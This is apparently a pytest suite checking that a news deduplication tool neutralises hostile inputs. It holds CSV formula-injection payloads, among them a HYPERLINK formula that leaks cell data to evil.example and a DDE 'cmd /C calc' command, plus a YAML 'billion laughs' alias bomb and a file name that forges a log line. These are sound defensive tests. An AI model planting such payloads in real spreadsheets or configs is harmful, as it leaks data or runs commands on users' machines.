"""Hostile input and output edges: formula cells, YAML aliases, odd names and records, versions."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from sqlalchemy import select

from dedup import pipeline
from dedup.cli import cli
from dedup.config import Settings, load_settings
from dedup.errors import ConfigError
from dedup.ingest import jsonl
from dedup.ingest.bounds import MAX_ARTICLE_CHARS, MAX_PARAGRAPH_CHARS
from dedup.report.csv_safe import safe_cell, writer
from dedup.store.engine import open_store
from dedup.store.models import Article, ArticleVersion

SEEDS = Path(__file__).resolve().parent.parent / "examples" / "seeds"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2)',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]


# ---------------------------------------------------------------- CSV formula injection


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_are_neutralised(value: str) -> None:
    assert safe_cell(value) == "'" + value
    out = io.StringIO()
    writer(out).writerow([value, "plain", -1.5, "-0.25", 3])
    row = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row == ["'" + value, "plain", "-1.5", "-0.25", "3"]


@pytest.fixture
def formula_db(tmp_path: Path) -> str:
    """The seeds with every title a spreadsheet formula, imported and analysed."""
    seeds = tmp_path / "seeds"
    seeds.mkdir()
    for i, path in enumerate(sorted(SEEDS.glob("*.txt"))):
        lines = path.read_text(encoding="utf-8").splitlines()
        lines[0] = FORMULAS[i % 2] + " " + lines[0]
        (seeds / path.name).write_text("\n".join(lines) + "\n", encoding="utf-8")
    db = str(tmp_path / "dedup.sqlite")
    result = CliRunner().invoke(cli, ["--db", db, "import", str(seeds)])
    assert result.exit_code == 0, result.output
    return db


def _formula_cells(text: str) -> list[str]:
    rows = csv.reader(io.StringIO(text, newline=""))
    return [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_csv_reports_and_exports_hold_no_formula(formula_db: str, tmp_path: Path) -> None:
    runner = CliRunner()
    outputs = []
    for args in (["report", "--format", "csv"], ["report", "--story", "1", "--format", "csv"]):
        result = runner.invoke(cli, ["--db", formula_db, *args])
        assert result.exit_code == 0, result.output
        outputs.append(result.output)
    for view in ("articles", "ledger"):
        target = tmp_path / f"{view}.csv"
        result = runner.invoke(cli, ["--db", formula_db, "export", view, "-o", str(target)])
        assert result.exit_code == 0, result.output
        outputs.append(target.read_text(encoding="utf-8"))
    quoted = ("'" + FORMULAS[0]).replace('"', '""')
    assert quoted in outputs[0] and quoted in outputs[2]  # the story list and the articles
    for text in outputs:
        assert _formula_cells(text) == []


# ---------------------------------------------------------------- feeds.yml


def test_yaml_aliases_are_refused(tmp_path: Path) -> None:
    config = tmp_path / "feeds.yml"
    laughs = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for n in range(1, 9):
        refs = ",".join([f"*{chr(96 + n)}"] * 9)
        laughs.append(f"{chr(97 + n)}: &{chr(97 + n)} [{refs}]")
    config.write_text("\n".join(laughs) + "\nfeeds: []\n", encoding="utf-8")
    assert config.stat().st_size < 400
    with pytest.raises(ConfigError, match=r"YAML aliases \(\*a, line 2\) are not accepted"):
        load_settings(config)
    result = CliRunner().invoke(cli, ["--config", str(config), "poll"])
    assert result.exit_code == 3 and "YAML aliases" in result.output
    assert "Traceback" not in result.output


def test_feed_settings_are_validated(tmp_path: Path) -> None:
    config = tmp_path / "feeds.yml"
    config.write_text(
        "fetch:\n  poll_deadline: 120\n  allow_private: false\n"
        "feeds:\n  - name: intranet\n    url: http://10.0.0.7/rss\n    allow_private: true\n"
        "  - name: other\n    url: https://example.org/rss\n    stale_after_days: 3\n",
        encoding="utf-8",
    )
    settings = load_settings(config)
    assert settings.fetch.poll_deadline == 120.0
    assert [f.fetch.allow_private for f in settings.feeds] == [True, False]
    assert settings.feeds[1].fetch.stale_after_days == 3.0
    config.write_text(
        "feeds:\n  - name: a\n    url: http://x/\n    poll_deadline: 5\n", encoding="utf-8"
    )
    with pytest.raises(ConfigError, match="unknown key"):
        load_settings(config)
    config.write_text("fetch:\n  allow_private: 1\n", encoding="utf-8")
    with pytest.raises(ConfigError, match="allow_private: expected true or false"):
        load_settings(config)


# ---------------------------------------------------------------- import edges


def _import(settings: Settings, *paths: Path) -> pipeline.ImportSummary:
    return pipeline.import_paths(settings, list(paths), analyze=False)


def _line(**fields: Any) -> str:
    return json.dumps({"source": "s", **fields}) + "\n"


def test_a_deeply_nested_or_huge_record_is_that_records_error(
    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(jsonl, "MAX_RECORD_BYTES", 300_000)
    archive = tmp_path / "a.jsonl"
    archive.write_text(
        _line(id="1", text="The first good record.")
        + "[" * 200_000
        + "\n"
        + _line(id="2", text="x" * 400_000)
        + _line(id="3", text="The good record after the bad ones."),
        encoding="utf-8",
    )
    summary = _import(settings, archive)
    assert summary.new == 2
    assert [(b.line, b.reason) for b in summary.bad] == [
        (2, "JSON nested too deeply to read; skipped"),
        (3, "record longer than 300000 bytes; skipped"),
    ]


def test_a_huge_paragraph_and_article_are_cut_and_marked(
    settings: Settings, tmp_path: Path
) -> None:
    archive = tmp_path / "a.jsonl"
    one_paragraph = "word " * (MAX_PARAGRAPH_CHARS // 2)
    many = "\n\n".join(f"Paragraph {i} " + "text " * 2000 for i in range(150))
    archive.write_text(
        _line(id="p", text=one_paragraph) + _line(id="a", text=many), encoding="utf-8"
    )
    assert len(many) > MAX_ARTICLE_CHARS
    summary = _import(settings, archive)
    assert summary.new == 2 and not summary.bad
    store = open_store(settings.db_url)
    try:
        with store.session() as session:
            texts = dict(
                session.execute(
                    select(Article.key, ArticleVersion.text).join(
                        ArticleVersion, ArticleVersion.id == Article.current_version_id
                    )
                ).all()
            )
    finally:
        store.close()
    paragraph, article = texts["import:s:p"], texts["import:s:a"]
    assert paragraph.endswith(f"[cut by dedup: longer than {MAX_PARAGRAPH_CHARS} characters]")
    assert len(paragraph) < MAX_PARAGRAPH_CHARS + 100
    assert article.endswith(f"[cut by dedup: longer than {MAX_ARTICLE_CHARS} characters]")
    assert len(article) < MAX_ARTICLE_CHARS + 100


def test_file_names_are_shown_escaped_on_one_line(settings: Settings, tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "evil\n2026-01-01 poll ok: forged.txt").write_text("", encoding="utf-8")
    (folder / "good.txt").write_text("Title\n\nSome article text here.\n", encoding="utf-8")
    summary = _import(settings, folder)
    (bad,) = summary.bad
    assert "\n" not in str(bad) and "evil\\n2026-01-01 poll ok: forged.txt" in str(bad)
    result = CliRunner().invoke(
        cli, ["--db", settings.db_url, "import", "--no-analyze", "--format", "json", str(folder)]
    )
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert any("forged" in line for line in lines)
    assert not any(line.lstrip(' "').startswith("2026-01-01") for line in lines)


def test_unreadable_folders_are_reported(
    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "in"
    (folder / "locked").mkdir(parents=True)
    (folder / "locked" / "a.txt").write_text("Title\n\nText.\n", encoding="utf-8")
    (folder / "open.txt").write_text("Title\n\nSome article text here.\n", encoding="utf-8")
    real_scandir = os.scandir
    locked = str(folder / "locked")

    def scandir(path: Any = ".") -> Any:
        # Tests may run as root, which reads any folder; the refusal is the kernel's answer.
        if str(path) == locked:
            raise PermissionError(13, "Permission denied", locked)
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    monkeypatch.setattr(os, "listdir", lambda path: scandir(path))
    summary = _import(settings, folder)
    assert summary.new == 1
    (bad,) = summary.bad
    assert bad.path == locked and "folder cannot be read (Permission denied)" in bad.reason


# ---------------------------------------------------------------- every version kept


def _versions(settings: Settings) -> list[tuple[int, str, bool]]:
    store = open_store(settings.db_url)
    try:
        with store.session() as session:
            current = session.scalar(select(Article.current_version_id))
            return [
                (number, text, version_id == current)
                for number, text, version_id in session.execute(
                    select(ArticleVersion.number, ArticleVersion.text, ArticleVersion.id).order_by(
                        ArticleVersion.number
                    )
                )
            ]
    finally:
        store.close()


TEXTS = ["Text A of the story.", "Text B of the story.", "Text A of the story.", "Text C."]


@pytest.mark.parametrize("batch", [1, 1000], ids=["across-batches", "within-one-batch"])
def test_repeated_ids_are_stored_as_versions_in_file_order(
    batch: int, settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pipeline, "IMPORT_BATCH", batch)
    archive = tmp_path / "versions.jsonl"
    archive.write_text("".join(_line(id="42", text=t) for t in TEXTS), encoding="utf-8")
    summary = _import(settings, archive)
    assert (summary.new, summary.changed, summary.unchanged, summary.bad) == (1, 3, 0, [])
    assert _versions(settings) == [
        (1, "Text A of the story.", False),
        (2, "Text B of the story.", False),
        (3, "Text C.", True),
    ]
    again = _import(settings, archive)  # a rerun walks the same history and ends on C
    assert again.bad == [] and _versions(settings)[-1] == (3, "Text C.", True)


def test_a_new_version_after_an_undone_edit_takes_the_next_free_number(
    settings: Settings, tmp_path: Path
) -> None:
    for i, text in enumerate(
        ["Text A of the story.", "Text B of the story.", "Text A of the story.", "Text D."]
    ):
        archive = tmp_path / f"{i}.jsonl"
        archive.write_text(_line(id="7", text=text), encoding="utf-8")
        assert _import(settings, archive).bad == []
    assert [n for n, _, _ in _versions(settings)] == [1, 2, 3]
    assert _versions(settings)[-1] == (3, "Text D.", True)
